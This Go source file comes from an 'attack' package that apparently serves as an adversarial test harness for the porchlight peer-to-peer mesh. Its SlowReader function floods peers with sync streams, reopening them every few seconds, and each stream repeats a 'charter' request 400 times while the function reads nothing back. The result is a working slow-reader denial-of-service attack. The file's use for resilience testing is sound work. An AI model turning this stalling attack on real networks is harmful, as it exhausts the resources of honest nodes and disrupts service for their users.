package attack

import (
	"bytes"
	"context"
	"encoding/binary"
	"time"

	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"

	"github.com/porchlight-mesh/porchlight/p2p/host"
	p2psync "github.com/porchlight-mesh/porchlight/p2p/sync"
)

// What attackers speak and honest packages do not name.
const (
	gossipProtocol  = "/porchlight/gossip/1"
	witnessProtocol = "/porchlight/witness/1"
)

// reopen is how often a slow reader opens streams for catching up: as often as a server lets anybody.
const reopen = 4 * time.Second

// SlowReader opens a stream of each kind to every peer that it is connected to. On those of catching up, of which it
// opens another every few seconds, it asks for the charter hundreds of times. It reads nothing on any of them. Whoever
// opens a stream to it gets it and hears nothing.
func SlowReader(ctx context.Context, h *host.Host, _ string) (leave func() error, err error) {
	stall(ctx, h, p2psync.Protocol, gossipProtocol, witnessProtocol)
	ended := make(chan struct{})
	go func() { // until ctx ends
		defer close(ended)
		greeted := map[string]bool{}
		for {
			for _, p := range h.Peers() {
				open(ctx, h, p.ID, p2psync.Protocol, greed())
				if !greeted[p.ID] {
					greeted[p.ID] = true
					open(ctx, h, p.ID, gossipProtocol, nil)
					open(ctx, h, p.ID, witnessProtocol, nil)
				}
			}
			select {
			case <-ctx.Done():
				return
			case <-time.After(reopen):
			}
		}
	}()
	return func() error { <-ended; return nil }, nil
}

// open opens a stream, says something on it, and leaves it there until ctx ends.
func open(ctx context.Context, h *host.Host, id, proto string, say []byte) {
	p, err := peer.Decode(id)
	if err != nil {
		return
	}
	st, err := h.Libp2p().NewStream(network.WithNoDial(ctx, "attack"), p, protocol.ID(proto))
	if err != nil {
		return
	}
	context.AfterFunc(ctx, func() { st.Reset() })
	st.SetWriteDeadline(time.Now().Add(time.Second))
	st.Write(say)
}

// greed asks, by the protocol of package sync, for heads and for the charter's first version four hundred times.
func greed() []byte {
	const log = "charter"
	want := append([]byte{byte(len(log))}, log...)
	want = binary.BigEndian.AppendUint64(binary.BigEndian.AppendUint64(want, 0), 1)
	want = append(binary.BigEndian.AppendUint32([]byte{3}, uint32(len(want))), want...)
	return append([]byte{1, 0, 0, 0, 0}, bytes.Repeat(want, 400)...)
}
